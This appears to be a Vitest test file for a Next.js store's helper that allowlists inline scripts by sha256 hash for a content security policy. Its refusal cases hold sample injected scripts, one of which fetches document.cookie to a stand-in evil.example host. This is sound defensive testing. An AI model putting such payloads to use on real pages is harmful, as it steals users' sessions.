import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { DROP_MAXIMUM_SCALE_ON_ANDROID } from '../lib/inline-scripts';
import { inlineScriptHashes, isKnownInlineScript } from './inline-script-hashes';

const hash = (text: string) => `'sha256-${createHash('sha256').update(text, 'utf8').digest('base64')}'`;

// The inline scripts of a page as Next 16 with Turbopack writes them (taken from a listing page).
const BOOTSTRAP = '(self.__next_f=self.__next_f||[]).push([0])';
const DATA = String.raw`self.__next_f.push([1,"9:[\"$\",\"main\",null,{\"id\":\"main\",\"children\":\"فساتين \\u003cb\\u003e\"}]\n"])`;
const CHUNKS =
  '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":["static/chunks/310vm2bl3xxpt.js"],"runtimeModuleIds":[94553]});';
const FORM_STATE = `${BOOTSTRAP};self.__next_f.push([2,{"state":["a",1]}])`;

const page = (...scripts: string[]) =>
  Buffer.from(
    `<!DOCTYPE html><html><head><script src="/_next/static/chunks/a.js" async=""></script></head><body>${scripts.join('')}</body></html>`,
  );

describe('inline scripts a page policy names (decision 0032)', () => {
  it("names Next's data, its chunk list and the store's own scripts by the sha256 of their exact text", () => {
    const html = page(
      `<script>${DROP_MAXIMUM_SCALE_ON_ANDROID}</script>`,
      `<script id="_R_">${CHUNKS}</script>`,
      `<script>${BOOTSTRAP}</script>`,
      `<script>${DATA}</script>`,
      `<script>${FORM_STATE}</script>`,
      // The same text twice is named once.
      `<script>${BOOTSTRAP}</script>`,
    );
    expect(inlineScriptHashes(html)).toEqual({
      hashes: [DROP_MAXIMUM_SCALE_ON_ANDROID, CHUNKS, BOOTSTRAP, DATA, FORM_STATE].map(hash),
      refused: 0,
    });
  });

  it('leaves out scripts with a source, data blocks and anything that is not a script tag', () => {
    const html = page(
      '<script src="/_next/static/chunks/b.js"></script>',
      '<script type="application/ld+json">{"@context":"https://schema.org"}</script>',
      '<scripts>not a tag</scripts>',
      '<p data-x="<script>">text</p>',
    );
    expect(inlineScriptHashes(html).hashes).toEqual([]);
  });

  it.each([
    ['a script of its own', 'alert(document.cookie)'],
    ['code after a data push', `${DATA};fetch("https://evil.example/?"+document.cookie)`],
    ['code in place of the data', 'self.__next_f.push(alert(1))'],
    ['a data push that is not JSON', 'self.__next_f.push([1,"a"]+alert(1))'],
    [
      'code in place of the chunk list',
      '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push(alert(1));',
    ],
    ['a chunk list on another global', '(globalThis[alert(1)] || (globalThis[alert(1)] = [])).push({});'],
    ['a near copy of the store’s own script', DROP_MAXIMUM_SCALE_ON_ANDROID.replace('Android', 'iPhone')],
  ])('refuses %s, which therefore does not run', (_, script) => {
    expect(isKnownInlineScript(script)).toBe(false);
    expect(inlineScriptHashes(page(`<script>${DATA}</script>`, `<script>${script}</script>`))).toEqual({
      hashes: [hash(DATA)],
      refused: 1,
    });
  });
});
